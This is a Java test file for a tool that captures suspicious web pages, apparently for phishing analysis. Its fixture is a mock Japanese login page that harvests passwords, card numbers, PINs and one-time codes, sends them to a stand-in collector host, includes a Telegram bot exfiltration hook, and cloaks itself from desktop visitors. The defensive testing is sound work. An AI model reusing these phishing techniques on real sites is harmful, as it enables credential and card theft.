package kanshiki.browser;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import javax.imageio.ImageIO;
import kanshiki.lookup.lab.NameTable;
import kanshiki.lookup.lab.WebLab;
import kanshiki.page.Capture;
import kanshiki.page.Device;
import kanshiki.page.Field;
import kanshiki.page.Happening;
import kanshiki.page.Hop;
import kanshiki.page.Journey;
import org.assertj.core.groups.Tuple;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** What is kept of pages that behave. */
class CaptureTest {
  private static final String SIGN_IN =
      """
      <!doctype html><html lang="ja"><head><title>会員ログイン</title><link rel="icon" href="/icon.png"></head>
      <body style="height:3000px;margin:0"><img src="/logo.png" width="100" height="40">
      <h1>ログイン</h1>
      <form method="post" action="https://collector.example/take"><label>会員ID<input name="member"></label>
      <input type="password" name="pw" placeholder="パスワード" maxlength="20"><input type="hidden" name="csrf" value="1">
      <button>ログインする</button></form>
      <div id="host"></div><div id="late"></div>
      <iframe srcdoc="<p>暗証番号</p><input name='pin' inputmode='numeric' maxlength='4'>"></iframe>
      <p style="display:none">見えない<input name="trap"></p>
      <script>
        document.getElementById('host').attachShadow({mode: 'open'}).innerHTML =
          '<p>カード番号</p><input name="card" autocomplete="cc-number">';
        setTimeout(() => {
          document.getElementById('late').innerHTML = '<label>確認コード<input id="otp" autocomplete="one-time-code"></label>';
        }, 150);
      </script><script src="/kit.js"></script></body></html>
      """;

  private static WebLab lab;
  private static NameTable names;

  @BeforeAll
  static void start() throws IOException {
    names = NameTable.start(Map.of());
    lab =
        WebLab.start("shop.example", "www.shop.example", "start.example", "collector.example")
            .redirect("start.example/", "http://www.shop.example/meta")
            .page(
                "www.shop.example/meta",
                "<meta http-equiv=refresh content=\"0;url=https://www.shop.example/script\">")
            .page(
                "www.shop.example/script",
                "<script>location.replace('https://shop.example/sign-in')</script>")
            .page("shop.example/sign-in", SIGN_IN)
            .file("shop.example/logo.png", "image/png", png(100, 40))
            .file("shop.example/icon.png", "image/png", png(16, 16))
            .file(
                "shop.example/kit.js",
                "text/javascript",
                "const hook='https://api.telegram.org/bot1:x/sendMessage';"
                    .getBytes(StandardCharsets.UTF_8))
            .file("shop.example/setup", "application/octet-stream", new byte[3000])
            .serve(
                "shop.example/cloaked",
                exchange -> {
                  boolean phone =
                      exchange.getRequestHeaders().getFirst("User-Agent").contains("Mobile");
                  WebLab.send(
                      exchange,
                      phone ? 200 : 404,
                      "text/html; charset=utf-8",
                      phone ? SIGN_IN : "<h1>Not Found</h1>");
                });
  }

  @AfterAll
  static void stop() {
    lab.close();
    names.close();
  }

  @AfterEach
  void nothingIsLeft() throws IOException {
    Visitor.assertNothingIsLeft();
  }

  private static byte[] png(int width, int height) throws IOException {
    var out = new ByteArrayOutputStream();
    ImageIO.write(new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB), "png", out);
    return out.toByteArray();
  }

  @Test
  void keepsTheWayThePageAndItsLook() throws IOException {
    Capture seen = Visitor.of(lab, names).visit("https://start.example/", Device.PHONE);

    Journey way = seen.journey();
    assertThat(way.hops())
        .extracting(Hop::url, Hop::how, Hop::status, Hop::address)
        .containsExactly(
            hop("https://start.example/", Hop.How.LINK, 302),
            hop("http://www.shop.example/meta", Hop.How.HTTP, 200),
            hop("https://www.shop.example/script", Hop.How.META, 200),
            hop("https://shop.example/sign-in", Hop.How.SCRIPT, 200));
    assertThat(way.failure()).isEmpty();
    assertThat(way.finalUrl()).isEqualTo("https://shop.example/sign-in");
    assertThat(way.status()).isEqualTo(200);
    assertThat(way.certificate().orElseThrow().issuer()).isEqualTo("Laboratory");
    assertThat(way.certificate().orElseThrow().names()).contains("shop.example");
    assertThat(way.certificate().orElseThrow().notBefore())
        .isBetween(Instant.parse("2022-02-17T00:00:00Z"), Instant.parse("2022-02-19T00:00:00Z"));

    assertThat(seen.document().title()).isEqualTo("会員ログイン");
    assertThat(seen.document().language()).isEqualTo("ja");
    assertThat(seen.document().text()).contains("ログイン", "カード番号", "暗証番号").doesNotContain("見えない");
    assertThat(seen.document().html()).contains("shadowrootmode", "確認コード");
    assertThat(seen.document().forms().getFirst().action())
        .isEqualTo("https://collector.example/take");
    assertThat(seen.document().fields())
        .extracting(Field::name, Field::label, Field::visible, Field::form)
        .contains(
            tuple("member", "会員ID", true, 0),
            tuple("card", "カード番号", true, -1),
            tuple("pin", "暗証番号", true, -1),
            tuple("trap", "見えない", false, -1));
    assertThat(seen.document().fields())
        .extracting(Field::type, Field::placeholder, Field::maxLength)
        .contains(tuple("password", "パスワード", 20));
    assertThat(seen.document().fields()).extracting(Field::autocomplete).contains("one-time-code");
    assertThat(seen.document().fields()).extracting(Field::name).doesNotContain("csrf");
    assertThat(seen.document().scripts().getFirst().text()).contains("api.telegram.org");

    assertThat(size(seen.views().firstView().orElseThrow().bytes())).startsWith("780x168");
    assertThat(size(seen.views().wholePage().orElseThrow().bytes())).isEqualTo("390x3000");
    assertThat(size(seen.views().favicon().orElseThrow().bytes())).isEqualTo("16x16");
    assertThat(seen.views().pictures()).hasSize(1);
    assertThat(seen.views().pictures().getFirst().width()).isEqualTo(100);
    assertThat(seen.resources())
        .anySatisfy(
            resource -> {
              assertThat(resource.url()).isEqualTo("https://shop.example/logo.png");
              assertThat(resource.size()).isEqualTo(png(100, 40).length);
              assertThat(resource.sha256()).hasSize(64);
            });
    assertThat(lab.requests()).noneMatch(request -> request.startsWith("POST"));
  }

  @Test
  void showsWhatAnotherDeviceIsShown() {
    Visitor visitor = Visitor.of(lab, names);
    assertThat(visitor.visit("https://shop.example/cloaked", Device.PHONE).document().fields())
        .isNotEmpty();
    Capture desktop = visitor.visit("https://shop.example/cloaked", Device.DESKTOP);
    assertThat(desktop.document().fields()).isEmpty();
    assertThat(desktop.journey().status()).isEqualTo(404);
    assertThat(desktop.isShown()).isTrue();
  }

  @Test
  void saysWhyThereIsNoPage() {
    Visitor visitor = Visitor.of(lab, names);
    assertThat(visitor.visit("https://gone.example/", Device.PHONE).journey().failure())
        .contains(Journey.Failure.NO_ADDRESS);
    Capture file = visitor.visit("https://shop.example/setup", Device.PHONE);
    assertThat(file.journey().failure()).contains(Journey.Failure.DOWNLOAD);
    assertThat(file.happenings()).contains(Happening.DOWNLOAD);
    assertThat(file.document().frames()).isEqualTo(List.of());
  }

  private static Tuple hop(String url, Hop.How how, int status) {
    return tuple(url, how, status, "127.0.0.1");
  }

  private static String size(byte[] png) throws IOException {
    BufferedImage image = ImageIO.read(new ByteArrayInputStream(png));
    return image.getWidth() + "x" + image.getHeight();
  }
}
